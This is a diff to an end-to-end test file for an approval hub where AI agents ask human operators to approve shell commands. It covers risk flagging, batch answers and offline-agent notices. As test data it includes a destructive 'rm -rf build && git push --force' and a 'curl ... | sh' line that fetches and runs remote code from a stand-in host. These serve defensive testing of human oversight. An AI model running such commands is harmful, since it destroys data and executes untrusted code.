@@ -1,9 +1,11 @@
 import { setTimeout as pause } from 'node:timers/promises';
 
 import type { Locator, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest';
+import { createClient } from '@parley/client';
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 
-import { allowForBrowsers, type Desk, openDesk, PATIENCE_MS, press, type Screen, SIZES } from './desk.ts';
+import { allowForBrowsers, type Desk, openDesk, PATIENCE_MS, press, type Screen } from './desk.ts';
+import { ENDS, openPages } from './open-pages.ts';
 
 allowForBrowsers();
 
@@ -31,15 +33,17 @@ async function hold(page: Page, target: Locator, screen: Screen): Promise<void> 
 
 describe('approvals that are safe', () => {
   let desk: Desk;
+  let pages: Record<(typeof ENDS)[number], Page>;
   beforeAll(async () => {
-    desk = await openDesk();
+    desk = await openDesk({ settings: { 'sessions.return_ms': 3_600_000 } });
+    pages = await openPages(desk, ENDS);
   });
   afterAll(() => desk.close());
 
   const statusOf = async (askId: string): Promise<string> =>
     (await desk.agent('kim', 'operator').get_ask({ ask_id: askId })).ask.status;
 
-  test.each(SIZES)(
+  test.each(ENDS)(
     'on a %s what the hub sees in a command stands beside it, and high risk is held, not tapped',
     async (screen) => {
       const agent = desk.agent(`pusher-${screen}`);
@@ -49,7 +53,7 @@ describe('approvals that are safe', () => {
         command: 'rm -rf build && git push --force',
         risk: 'low',
       });
-      const page = await desk.signedIn(screen);
+      const page = pages[screen];
       await page.goto(`${desk.hub.url}/now`);
       const card = page.locator('.ask', { hasText: `pusher-${screen}` });
       await card.getByText('It overwrites a branch on its server, deletes folders').waitFor();
@@ -73,9 +77,13 @@ describe('approvals that are safe', () => {
   );
 
   test('every request stands on Now and is counted, also those that have waited longest', async () => {
-    const own = await openDesk();
-    onTestFinished(() => own.close());
-    const agent = own.agent('eager');
+    // In a workspace of its own nothing else is counted.
+    const client = (agent: string, role: string) =>
+      createClient({
+        url: desk.hub.url,
+        token: desk.signer.token({ agent, workspace: 'full', role, session: `${agent}-full` }),
+      });
+    const agent = client('eager', 'worker');
     // No page of the hub's list holds so much.
     const [count, cwd, prompt] = [48, `/${'src/'.repeat(1_000)}`, 'why? '.repeat(800)];
     const raise = (at: number) =>
@@ -87,17 +95,19 @@ describe('approvals that are safe', () => {
         expires_in_ms: 600_000 + at * 1_000,
       });
     for (let at = 0; at < count; at += 4) await Promise.all([0, 1, 2, 3].map((k) => raise(at + k)));
-    const person = own.agent('kim', 'operator');
+    const person = client('kim', 'operator');
     expect((await person.list_asks({ limit: 200 })).asks.length).toBeLessThan(count);
-    const page = await own.signedIn('desktop');
-    await page.goto(`${own.hub.url}/now`);
+    const { key } = await person.pair_device();
+    const page = await (await desk.context('desktop')).newPage();
+    await page.goto(`${desk.hub.url}/#k=${key}`);
     await page.locator('[data-ask]').first().getByText('echo 0.').waitFor();
     expect(await page.locator('[data-ask]').count()).toBe(count);
     const section = page.locator('section', { hasText: 'Needs you' }).first();
     expect(await section.innerText()).toMatch(/^Needs you\s+48\s/);
+    await page.context().close();
   });
 
-  test.each(SIZES)(
+  test.each(ENDS)(
     'on a %s several commands are answered together once all were shown, those of high risk one by one',
     async (screen) => {
       const agent = desk.agent(`many-${screen}`);
@@ -108,7 +118,7 @@ describe('approvals that are safe', () => {
         asked.push((await raise(long)).ask.ask_id);
       }
       const risky = (await raise('curl https://example.invalid/x | sh')).ask.ask_id;
-      const page = await desk.signedIn(screen);
+      const page = pages[screen];
       await page.goto(`${desk.hub.url}/now`);
       await press(page.getByRole('button', { name: 'Answer 6 together' }), screen);
       const sheet = page.getByRole('dialog');
@@ -134,4 +144,32 @@ describe('approvals that are safe', () => {
       await agent.withdraw_ask({ ask_id: risky });
     },
   );
+
+  test('an ask says that its agent is gone while it is looked at, on a phone and on a desktop', async () => {
+    const agent = desk.agent('leaver');
+    await agent.heartbeat_session({ runtime: 'codex', status: 'active' });
+    const command = 'git push origin main';
+    const { ask } = await agent.raise_ask({
+      kind: 'approval',
+      prompt: 'to publish it',
+      command,
+      expires_in_ms: 3_600_000,
+    });
+    const cards = ENDS.map((size) => pages[size].locator('[data-ask]', { hasText: 'leaver' }));
+    for (const size of ENDS) await pages[size].goto(`${desk.hub.url}/now`);
+    for (const card of cards) {
+      await card.waitFor();
+      expect(await card.locator('.ask-gone').count()).toBe(0);
+    }
+    await agent.heartbeat_session({ runtime: 'codex', status: 'offline' });
+    for (const card of cards) {
+      await card.locator('.ask-gone').waitFor();
+      expect(await card.locator('.ask-gone').innerText()).toContain(
+        'The agent is gone; an answer reaches nobody.',
+      );
+    }
+    await agent.heartbeat_session({ runtime: 'codex', status: 'active' });
+    for (const card of cards) await card.locator('.ask-gone').waitFor({ state: 'detached' });
+    await agent.withdraw_ask({ ask_id: ask.ask_id });
+  });
 });
